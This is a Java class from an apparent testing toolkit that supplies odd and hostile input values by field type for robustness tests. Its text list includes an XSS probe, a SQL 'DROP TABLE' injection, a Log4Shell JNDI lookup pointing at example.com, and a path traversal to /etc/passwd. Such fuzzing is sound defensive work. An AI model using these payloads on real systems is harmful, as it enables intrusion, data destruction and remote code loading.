package io.icprules.testkit.generate;

import java.lang.reflect.Type;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;

/** Values that no form would take, by the type of the field. */
final class HostileValues {

    /** Odd texts: empty, blank, very long, with control characters, right to left, broken, or made to be run. */
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "　",
            "\u0000",
            "\t\r\n",
            "\u202e例示\u202c",
            "\u200b\ufeff",
            "☁🏳️\u200d🌈👩\u200d👩\u200d👧",
            "\ud83d",
            "é́́́",
            "ＡＢＣ．ＣＮ",
            "。。",
            ".",
            "-",
            "xn--",
            "xn--a",
            "null",
            "true",
            "yes",
            "1e9",
            "NaN",
            "2019-02-30",
            "{}",
            "[]",
            "# ---",
            "\"'`\\",
            "%s%n{0}$1",
            "<script>alert(1)</script>",
            "'; DROP TABLE filing; --",
            "${jndi:ldap://example.com/a}",
            "../../etc/passwd",
            "𠀀𠀁𠀂",
            "示例".repeat(5_000),
            "a.".repeat(2_000));

    private static final List<LocalDate> DAYS = List.of(
            LocalDate.MIN,
            LocalDate.MAX,
            LocalDate.EPOCH,
            LocalDate.of(0, 1, 1),
            LocalDate.of(-1, 12, 31),
            LocalDate.of(1582, 10, 10),
            LocalDate.of(9999, 12, 31),
            LocalDate.of(10_000, 1, 1),
            LocalDate.of(2020, 2, 29));

    private static final List<BigDecimal> DECIMALS = List.of(
            new BigDecimal("-1"),
            new BigDecimal("1e-400"),
            new BigDecimal("1e400"),
            new BigDecimal("-1e400"),
            new BigDecimal("0.1000000000000000000000000000000000001"));

    private static final int MANY = 1000;

    private HostileValues() {}

    /** Lists also grow: many entries, and entries twice, are made of what the field holds. */
    static List<FieldValues.Value> of(Type type) {
        Class<?> held = RecordShape.held(type);
        if (held != type) {
            return held == String.class ? lists() : constants(Stream.of(List.of()));
        }
        return switch (held.getSimpleName()) {
            case "String" -> constants(TEXTS.stream());
            case "LocalDate" -> constants(DAYS.stream());
            case "LocalDateTime" ->
                constants(Stream.of(LocalDateTime.MIN, LocalDateTime.MAX, LocalDate.EPOCH.atStartOfDay()));
            case "Integer" -> constants(Stream.of(-1, Integer.MIN_VALUE, Integer.MAX_VALUE));
            case "Long" -> constants(Stream.of(-1L, Long.MIN_VALUE, Long.MAX_VALUE));
            case "BigDecimal" -> constants(DECIMALS.stream());
            default -> List.of();
        };
    }

    private static List<FieldValues.Value> lists() {
        List<List<String>> all = new ArrayList<>();
        all.add(List.of());
        all.add(Collections.nCopies(MANY, "示例"));
        for (String text : TEXTS) {
            all.add(List.of(text, text));
        }
        return constants(all.stream());
    }

    private static List<FieldValues.Value> constants(Stream<?> values) {
        return values.<FieldValues.Value>map(value -> day -> value).toList();
    }
}
